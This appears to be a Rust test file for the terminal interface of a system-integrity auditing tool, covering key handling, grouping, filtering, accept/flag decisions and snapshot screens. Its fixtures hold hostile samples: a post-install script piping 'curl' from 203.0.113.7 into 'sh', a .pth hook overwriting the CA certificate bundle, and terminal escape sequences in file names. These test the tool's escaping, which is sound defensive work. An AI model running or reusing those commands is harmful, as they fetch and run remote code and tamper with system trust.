//! TUI tests without a terminal: the update function on scripted keys
//! (state tests) and every screen drawn on ratatui's `TestBackend`
//! (snapshots, `insta`), at 80×24 and 160×48, with and without ASCII mode.
//!
//! The findings are schema-2 JSON objects as reports hold them (a saved
//! report is one of the TUI's two inputs), covering each evidence family.

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use serde_json::json;

use super::draw::draw;
use super::item::Item;
use super::state::{AppState, Grouping, Info, Look, Row, Screen, Status};
use super::update::{Action, Event, update};
use crate::model::Verdict;

const UNICODE: Look = Look {
    ascii: false,
    color: true,
};
const ASCII: Look = Look {
    ascii: true,
    color: false,
};

fn pkg(name: &str, version: &str, arch: &str, record: u64) -> serde_json::Value {
    json!({"nevra": format!("{name}-{version}-1.{arch}"), "record": record, "name": name,
           "version": version, "release": "1", "arch": arch})
}

/// The fixture findings: one of each family, a hostile name, a name that
/// is not UTF-8, and one package with 60 changed files (a large group).
fn findings() -> Vec<serde_json::Value> {
    let mut v = vec![
        json!({"id": "1111111111111111", "kind": "file-changed", "severity": "high",
            "path": "/usr/lib/demo/libauth.so", "package": pkg("demo-shadow", "1.0", "noarch", 2),
            "header": "untrusted-signer",
            "message": "size, digest, mtime differ", "evidence": "file", "verify": "S.5....T.",
            "config": false,
            "expected": {"size": 21, "digest": "sha256:9f2c5a0e3b1d4c7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e", "mtime": 1700000000},
            "actual": {"size": 31, "mtime": 1700003600}}),
        json!({"id": "2222222222222222", "kind": "file-changed", "severity": "critical",
            "path": "/usr/bin/demo-cat", "package": pkg("demo-tools", "1.0", "noarch", 3),
            "message": "mode differs (gained setuid)", "evidence": "file", "verify": ".M.......",
            "config": false, "expected": {"mode": "100755"}, "actual": {"mode": "104755"}}),
        json!({"id": "3333333333333333", "kind": "file-missing", "severity": "medium",
            "path": "/usr/bin/demo-ls", "package": pkg("demo-tools", "1.0", "noarch", 3),
            "message": "registered file is missing", "evidence": "missing", "config": false}),
        json!({"id": "4444444444444444", "kind": "startup-hook", "severity": "high",
            "path": "/usr/lib/python3/dist-packages/zz-certs.pth",
            "message": "a .pth file runs code at every Python start", "evidence": "hook",
            "hook": {"pth": {"lines": 1}},
            "line": "import os; os.system('cp /tmp/.c /etc/ssl/certs/ca-certificates.crt')"}),
        json!({"id": "5555555555555555", "kind": "bytecode-sourceless", "severity": "critical",
            "path": "/usr/lib/python3.11/encodings/idna2.pyc",
            "message": "sourceless bytecode, importable from sys.path", "evidence": "bytecode",
            "reason": {"sourceless": {"module": "encodings.idna2", "pyo": false}},
            "source": "/usr/lib/python3.11/encodings/idna2.py",
            "pyc": {"magic": "a70d0d0a", "version": "3.11", "flags": 0,
                    "invalidation": {"timestamp": {"mtime": 1700000000, "size": 120}}},
            "code": "decoded", "imports": ["socket", "base64"],
            "strings": ["203.0.113.7", "/bin/sh"]}),
        json!({"id": "6666666666666666", "kind": "header-signature-bad", "severity": "critical",
            "package": pkg("openssh-server", "9.6p1", "x86_64", 4),
            "message": "the header's signature does not verify", "evidence": "header",
            "problem": {"signature-bad": {"record": 4, "key_id": "199e2f91fd431d51",
                "signatures": [{"source": "RSAHEADER", "key_id": "199e2f91fd431d51",
                                "reason": "signature does not match"}]}}}),
        json!({"id": "7777777777777777", "kind": "unowned-setuid", "severity": "critical",
            "path": "/usr/bin/\u{1b}]0;owned\u{7}sh",
            "message": "setuid file no package owns", "evidence": "unowned", "what": "setuid",
            "actual": {"mode": "104755", "size": 1234, "mtime": 1700000000, "user": "root"}}),
        json!({"id": "8888888888888888", "kind": "unowned-executable", "severity": "high",
            "path": {"bytes": "L3Vzci9zYmluL3NzaGQteH/+"},
            "message": "executable no package owns", "evidence": "unowned",
            "what": "elf-executable", "actual": {"mode": "100755", "size": 9, "mtime": 1}}),
    ];
    for i in 0..60 {
        v.push(
            json!({"id": format!("9{i:015}"), "kind": "file-changed", "severity": "high",
            "path": format!("/usr/lib/node_modules/npm/lib/file{i:02}.js"),
            "package": pkg("nodejs", "18.19.0", "x86_64", 5),
            "message": "size, digest, mtime differ", "evidence": "file", "verify": "S.5....T.",
            "config": false, "expected": {"size": 100, "digest": "sha256:00", "mtime": 1},
            "actual": {"size": 101, "mtime": 2}}),
        );
    }
    v
}

fn items() -> Vec<Item> {
    findings()
        .into_iter()
        .map(|f| Item::from_value(&f, f.to_string()).unwrap())
        .collect()
}

fn info() -> Info {
    Info {
        root: b"/mnt/sysimage".to_vec(),
        database: "rpm-sqlite".into(),
        database_path: b"/var/lib/rpm/rpmdb.sqlite".to_vec(),
        packages: 412,
        sandbox: Some("landlock (fully enforced) + seccomp".into()),
        report_file: None,
    }
}

fn state(look: Look, size: (u16, u16)) -> AppState {
    let mut s = AppState::new(info(), Status::Finished { complete: true }, look, size);
    update(&mut s, Event::Findings(items()));
    update(
        &mut s,
        Event::Packages(vec![(
            2,
            "untrusted-signer".into(),
            Some("0123456789abcdef".into()),
        )]),
    );
    update(
        &mut s,
        Event::Scripts(
            "demo-shadow.noarch".into(),
            json!({"package": pkg("demo-shadow", "1.0", "noarch", 2), "scripts": [
                {"phase": "pre", "interpreter": "/bin/sh", "body": "getent group shadow || groupadd -r shadow"},
                {"phase": "post", "interpreter": "/bin/sh",
                 "body": "chmod 4755 /usr/bin/demo-passwd\ncurl -s http://203.0.113.7/x | sh \u{1b}[8m"}]}),
        ),
    );
    s.now = 1_764_300_000;
    s.rebuild();
    s
}

fn key(s: &mut AppState, code: KeyCode) -> Action {
    update(s, Event::Key(KeyEvent::new(code, KeyModifiers::NONE)))
}

fn keys(s: &mut AppState, text: &str) {
    for c in text.chars() {
        key(s, KeyCode::Char(c));
    }
}

/// The screen as text, one line per row.
fn screen(s: &AppState) -> String {
    let mut s2 = AppState { ..clone_view(s) };
    if s2.stale {
        s2.rebuild();
    }
    let backend = TestBackend::new(s.size.0, s.size.1);
    let mut t = Terminal::new(backend).unwrap();
    t.draw(|f| draw(&s2, f)).unwrap();
    let buf = t.backend().buffer().clone();
    let mut out = String::new();
    for y in 0..buf.area.height {
        let mut line = String::new();
        for x in 0..buf.area.width {
            line.push_str(buf[(x, y)].symbol());
        }
        out.push_str(line.trim_end());
        out.push('\n');
    }
    out
}

fn clone_view(s: &AppState) -> AppState {
    let mut c = AppState::new(s.info.clone(), s.status, s.look, s.size);
    c.items = s.items.clone();
    c.scripts = s.scripts.clone();
    c.packages = s.packages.clone();
    c.progress = s.progress;
    c.screen = s.screen.clone();
    c.grouping = s.grouping;
    c.sort = s.sort;
    c.filter = s.filter.clone();
    c.package = s.package.clone();
    c.opened = s.opened.clone();
    c.groups = s.groups.clone();
    c.rows = s.rows.clone();
    c.stale = s.stale;
    c.cursor = s.cursor;
    c.offset = s.offset;
    c.marks = s.marks.clone();
    c.detail_scroll = s.detail_scroll;
    c.notice = s.notice.clone();
    c
}

fn row_text(s: &AppState) -> String {
    match s.selected() {
        Some(Row::Item { item, .. }) => {
            String::from_utf8_lossy(&s.items[item as usize].path).into()
        }
        Some(Row::Group { group, .. }) => {
            String::from_utf8_lossy(&s.groups[group as usize].label).into()
        }
        None => String::new(),
    }
}

// ---- state tests ----

#[test]
fn worst_first_and_the_large_group_is_one_line() {
    let s = state(ASCII, (80, 24));
    let first = s.rows[0];
    let Row::Group { group, .. } = first else {
        panic!()
    };
    assert_eq!(
        s.groups[group as usize].worst,
        crate::model::Severity::Critical
    );
    let npm = s
        .groups
        .iter()
        .find(|g| g.label.starts_with(b"nodejs"))
        .expect("nodejs group");
    assert_eq!(npm.members.len(), 60);
    assert!(!npm.open, "60 findings stay closed by default");
    assert!(s.rows.len() < 40, "{} rows", s.rows.len());
}

#[test]
fn enter_opens_the_large_group_and_esc_leaves_details() {
    let mut s = state(ASCII, (80, 24));
    let at = s
        .rows
        .iter()
        .position(|r| matches!(r, Row::Group { group, .. } if s.groups[*group as usize].label.starts_with(b"nodejs")))
        .unwrap();
    s.cursor = at;
    let before = s.rows.len();
    key(&mut s, KeyCode::Enter);
    assert_eq!(s.rows.len(), before + 60);
    key(&mut s, KeyCode::Char('j'));
    assert!(row_text(&s).ends_with("file00.js"));
    key(&mut s, KeyCode::Enter);
    assert_eq!(s.screen, Screen::Detail);
    key(&mut s, KeyCode::Esc);
    assert_eq!(s.screen, Screen::Browser);
    key(&mut s, KeyCode::Char('h')); // up to the group
    assert!(row_text(&s).starts_with("nodejs"));
    key(&mut s, KeyCode::Char('h')); // closes it
    assert_eq!(s.rows.len(), before);
}

#[test]
fn filter_narrows_as_typed_and_lands_on_the_first_match() {
    let mut s = state(ASCII, (80, 24));
    key(&mut s, KeyCode::Char('/'));
    keys(&mut s, "zz-cert");
    let shown: usize = s
        .rows
        .iter()
        .filter(|r| matches!(r, Row::Item { .. }))
        .count();
    assert_eq!(shown, 1);
    key(&mut s, KeyCode::Enter);
    assert_eq!(s.screen, Screen::Browser);
    assert!(row_text(&s).ends_with("zz-certs.pth"));
    // Package names, kinds and ids are searched too.
    key(&mut s, KeyCode::Char('/'));
    key(&mut s, KeyCode::Backspace);
    for _ in 0..10 {
        key(&mut s, KeyCode::Backspace);
    }
    keys(&mut s, "OPENSSH");
    key(&mut s, KeyCode::Enter);
    assert_eq!(s.filter, "OPENSSH");
    assert_eq!(
        s.rows
            .iter()
            .filter(|r| matches!(r, Row::Item { .. }))
            .count(),
        1
    );
    key(&mut s, KeyCode::Esc);
    assert!(s.filter.is_empty());
}

#[test]
fn accept_with_a_reason_then_undo() {
    let mut s = state(ASCII, (80, 24));
    key(&mut s, KeyCode::Char('/'));
    keys(&mut s, "demo-cat");
    key(&mut s, KeyCode::Enter);
    let item = s.selected_item().unwrap();
    assert_eq!(key(&mut s, KeyCode::Char('a')), Action::None);
    keys(&mut s, "admin's own change, ticket 42");
    assert_eq!(key(&mut s, KeyCode::Enter), Action::Decided(vec![item]));
    let d = s.items[item as usize].decision.clone().unwrap();
    assert_eq!(d.verdict, Verdict::Accepted);
    assert_eq!(d.reason, "admin's own change, ticket 42");
    assert_eq!(d.at, 1_764_300_000);
    assert_eq!(s.counts().1, 1);
    assert_eq!(key(&mut s, KeyCode::Char('u')), Action::Decided(vec![item]));
    assert!(s.items[item as usize].decision.is_none());
}

#[test]
fn a_reason_ending_in_plus_age_sets_an_expiry() {
    let mut s = state(ASCII, (80, 24));
    key(&mut s, KeyCode::Char('n'));
    let item = s.selected_item().unwrap();
    key(&mut s, KeyCode::Char('a'));
    keys(&mut s, "vendor hotfix, until the update +30d");
    assert_eq!(key(&mut s, KeyCode::Enter), Action::Decided(vec![item]));
    let d = s.items[item as usize].decision.clone().unwrap();
    assert_eq!(d.reason, "vendor hotfix, until the update");
    assert_eq!(d.expires, Some(1_764_300_000 + 30 * 86_400));

    // A bad age decides nothing and says why; an age alone is no reason.
    key(&mut s, KeyCode::Char('u'));
    for text in ["hotfix +30x", "+2w"] {
        key(&mut s, KeyCode::Char('a'));
        keys(&mut s, text);
        assert_eq!(key(&mut s, KeyCode::Enter), Action::None, "{text}");
        assert!(s.items[item as usize].decision.is_none(), "{text}");
        assert!(
            s.notice
                .as_deref()
                .unwrap_or("")
                .contains("nothing changed"),
            "{text}"
        );
    }
    // A `+` inside the reason is just text.
    key(&mut s, KeyCode::Char('a'));
    keys(&mut s, "C++ runtime +2w");
    key(&mut s, KeyCode::Enter);
    let d = s.items[item as usize].decision.clone().unwrap();
    assert_eq!(
        (d.reason.as_str(), d.expires),
        ("C++ runtime", Some(1_764_300_000 + 14 * 86_400))
    );
}

#[test]
fn an_empty_reason_decides_nothing() {
    let mut s = state(ASCII, (80, 24));
    key(&mut s, KeyCode::Char('n'));
    key(&mut s, KeyCode::Char('a'));
    keys(&mut s, "  ");
    assert_eq!(key(&mut s, KeyCode::Enter), Action::None);
    assert!(s.items.iter().all(|i| i.decision.is_none()));
}

#[test]
fn marked_findings_are_decided_together() {
    let mut s = state(ASCII, (80, 24));
    key(&mut s, KeyCode::Char('n'));
    key(&mut s, KeyCode::Char(' '));
    key(&mut s, KeyCode::Char('n'));
    key(&mut s, KeyCode::Char(' '));
    assert_eq!(s.marks.len(), 2);
    key(&mut s, KeyCode::Char('f'));
    keys(&mut s, "check with the vendor");
    let Action::Decided(v) = key(&mut s, KeyCode::Enter) else {
        panic!()
    };
    assert_eq!(v.len(), 2);
    assert!(s.marks.is_empty());
    assert_eq!(
        s.items
            .iter()
            .filter(|i| i
                .decision
                .as_ref()
                .is_some_and(|d| d.verdict == Verdict::Flagged))
            .count(),
        2
    );
    // Flagged findings still count.
    assert_eq!(s.counts().1, 0);
}

#[test]
fn space_on_a_group_marks_all_of_it() {
    let mut s = state(ASCII, (80, 24));
    s.cursor = s
        .rows
        .iter()
        .position(|r| matches!(r, Row::Group { group, .. } if s.groups[*group as usize].label.starts_with(b"nodejs")))
        .unwrap();
    key(&mut s, KeyCode::Char(' '));
    assert_eq!(s.marks.len(), 60);
    key(&mut s, KeyCode::Esc);
    assert!(s.marks.is_empty());
}

#[test]
fn package_view_lists_one_package() {
    let mut s = state(ASCII, (80, 24));
    key(&mut s, KeyCode::Char('/'));
    keys(&mut s, "demo-ls");
    key(&mut s, KeyCode::Enter);
    key(&mut s, KeyCode::Esc); // clears the filter, stays on the finding
    key(&mut s, KeyCode::Char('p'));
    assert_eq!(s.package.as_deref(), Some("demo-tools.noarch"));
    assert_eq!(
        s.rows
            .iter()
            .filter(|r| matches!(r, Row::Item { .. }))
            .count(),
        2
    );
    key(&mut s, KeyCode::Esc);
    assert!(s.package.is_none());
}

#[test]
fn tab_groups_by_directory() {
    let mut s = state(ASCII, (80, 24));
    key(&mut s, KeyCode::Tab);
    assert_eq!(s.grouping, Grouping::Directory);
    let labels: Vec<String> = s
        .rows
        .iter()
        .filter_map(|r| match r {
            Row::Group { group, depth: 0 } => {
                Some(String::from_utf8_lossy(&s.groups[*group as usize].label).into_owned())
            }
            _ => None,
        })
        .collect();
    assert_eq!(labels, ["(no path)", "/usr"]);
    assert!(
        s.groups
            .iter()
            .any(|g| g.label == b"node_modules/npm/lib" && !g.open)
    );
}

#[test]
fn q_while_scanning_asks_then_stops() {
    let mut s = state(ASCII, (80, 24));
    s.status = Status::Scanning;
    assert_eq!(key(&mut s, KeyCode::Char('q')), Action::None);
    assert_eq!(s.screen, Screen::ConfirmStop);
    assert_eq!(key(&mut s, KeyCode::Char('n')), Action::None);
    assert_eq!(s.status, Status::Scanning);
    key(&mut s, KeyCode::Char('q'));
    assert_eq!(key(&mut s, KeyCode::Char('y')), Action::StopScan);
    update(&mut s, Event::Finished { complete: false });
    assert_eq!(s.status, Status::Finished { complete: false });
    assert!(screen(&s).contains("PARTIAL"));
    assert_eq!(key(&mut s, KeyCode::Char('q')), Action::Quit);
}

#[test]
fn ctrl_c_quits_at_once() {
    let mut s = state(ASCII, (80, 24));
    s.status = Status::Scanning;
    let a = update(
        &mut s,
        Event::Key(KeyEvent::new(KeyCode::Char('c'), KeyModifiers::CONTROL)),
    );
    assert_eq!(a, Action::Quit);
}

#[test]
fn export_asks_for_a_folder() {
    let mut s = state(ASCII, (80, 24));
    key(&mut s, KeyCode::Char('e'));
    for _ in 0.."rootaudit-export".len() {
        key(&mut s, KeyCode::Backspace);
    }
    keys(&mut s, "/tmp/out");
    assert_eq!(
        key(&mut s, KeyCode::Enter),
        Action::Export("/tmp/out".into())
    );
}

#[test]
fn cursor_stays_on_its_finding_while_findings_arrive() {
    let mut s = state(ASCII, (80, 24));
    key(&mut s, KeyCode::Char('/'));
    keys(&mut s, "zz-certs");
    key(&mut s, KeyCode::Enter);
    key(&mut s, KeyCode::Esc);
    let at = row_text(&s);
    let more: Vec<Item> = items().into_iter().take(3).collect();
    update(&mut s, Event::Findings(more));
    s.rebuild();
    assert_eq!(row_text(&s), at);
}

// ---- screens ----

fn snap(name: &str, s: &AppState) {
    let text = screen(s);
    if s.look.ascii {
        assert!(text.is_ascii(), "{name}: a byte outside ASCII:\n{text}");
    }
    assert!(!text.contains('\u{1b}'), "{name}: raw escape on screen");
    insta::assert_snapshot!(name, text);
}

fn both(name: &str, f: impl Fn(&mut AppState)) {
    for (look, tag) in [(ASCII, "ascii"), (UNICODE, "unicode")] {
        for size in [(80u16, 24u16), (160, 48)] {
            let mut s = state(look, size);
            f(&mut s);
            snap(&format!("{name}-{tag}-{}x{}", size.0, size.1), &s);
        }
    }
}

#[test]
fn screen_browser_by_severity() {
    both("browser-severity", |_| {});
}

#[test]
fn screen_browser_by_directory() {
    both("browser-directory", |s| {
        key(s, KeyCode::Tab);
    });
}

#[test]
fn screen_large_group_opened() {
    both("large-group-opened", |s| {
        s.cursor = s
            .rows
            .iter()
            .position(|r| matches!(r, Row::Group { group, .. } if s.groups[*group as usize].label.starts_with(b"nodejs")))
            .unwrap();
        key(s, KeyCode::Enter);
        key(s, KeyCode::Char('j'));
    });
}

fn open_detail(s: &mut AppState, needle: &str) {
    key(s, KeyCode::Char('/'));
    keys(s, needle);
    key(s, KeyCode::Enter);
    key(s, KeyCode::Enter);
    assert_eq!(s.screen, Screen::Detail, "{needle}");
}

#[test]
fn screen_detail_file_changed_with_scripts() {
    both("detail-file-changed", |s| open_detail(s, "libauth"));
}

#[test]
fn screen_detail_header() {
    both("detail-header", |s| open_detail(s, "openssh"));
}

#[test]
fn screen_detail_bytecode() {
    both("detail-bytecode", |s| open_detail(s, "idna2"));
}

#[test]
fn screen_detail_hook() {
    both("detail-hook", |s| open_detail(s, "zz-certs"));
}

#[test]
fn screen_help() {
    both("help", |s| {
        key(s, KeyCode::Char('?'));
    });
}

#[test]
fn screen_filter_prompt() {
    both("filter", |s| {
        key(s, KeyCode::Char('/'));
        keys(s, "usr/bin");
    });
}

#[test]
fn screen_accept_prompt() {
    both("accept", |s| {
        key(s, KeyCode::Char('n'));
        key(s, KeyCode::Char('a'));
        keys(s, "known local build");
    });
}

#[test]
fn screen_progress() {
    both("progress", |s| {
        use crate::check::{CheckKind, Phase, Snapshot};
        s.status = Status::Scanning;
        let snap = Snapshot {
            phase: Phase::Check(CheckKind::Files),
            packages: 412,
            files_total: 120_000,
            bytes_total: 4 << 30,
            files_checked: 30_000,
            bytes_hashed: 1 << 30,
            findings: [40, 1, 12, 63, 4],
            accepted: 0,
        };
        update(
            s,
            Event::Tick {
                now: 1_764_300_000,
                progress: Some((snap, std::time::Duration::from_secs(8))),
            },
        );
    });
}

#[test]
fn hostile_names_and_scripts_never_reach_the_screen_raw() {
    for look in [ASCII, UNICODE] {
        let mut s = state(look, (160, 48));
        open_detail(&mut s, "libauth");
        let text = screen(&s);
        assert!(text.contains("\\x1b[8m"), "{text}");
        let mut s = state(look, (160, 48));
        key(&mut s, KeyCode::Char('/'));
        keys(&mut s, "owned");
        key(&mut s, KeyCode::Enter);
        let text = screen(&s);
        assert!(text.contains("\\x1b]0;owned\\x07sh"), "{text}");
    }
}

#[test]
fn no_color_shows_selection_by_reverse_video() {
    let s = state(ASCII, (80, 24));
    let backend = TestBackend::new(80, 24);
    let mut t = Terminal::new(backend).unwrap();
    t.draw(|f| draw(&s, f)).unwrap();
    let buf = t.backend().buffer();
    let mut reversed = 0;
    for y in 0..24 {
        for x in 0..80 {
            let c = &buf[(x, y)];
            assert_eq!(c.fg, ratatui::style::Color::Reset, "colour at {x},{y}");
            if c.modifier.contains(ratatui::style::Modifier::REVERSED) {
                reversed += 1;
            }
        }
    }
    assert!(reversed > 0);
}
